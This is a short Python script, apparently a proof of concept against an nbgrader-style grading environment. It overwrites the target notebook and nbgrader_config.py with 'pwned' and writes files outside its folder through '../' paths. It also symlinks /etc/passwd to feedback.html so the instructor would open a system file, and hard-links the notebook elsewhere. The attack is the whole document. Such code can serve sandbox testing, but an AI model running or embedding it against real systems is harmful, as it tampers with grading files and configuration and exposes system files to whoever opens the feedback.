# What the notebook's own folder holds is changed, for the instructor to open.
import os, pathlib
for name in ("target.ipynb", "nbgrader_config.py", "../pwned", "pwned.html"):
    try: pathlib.Path(name).write_text("pwned")
    except OSError as error: print(error)
try: os.symlink("/etc/passwd", "feedback.html"); os.link("target.ipynb", "../pwned2")
except OSError as error: print(error)
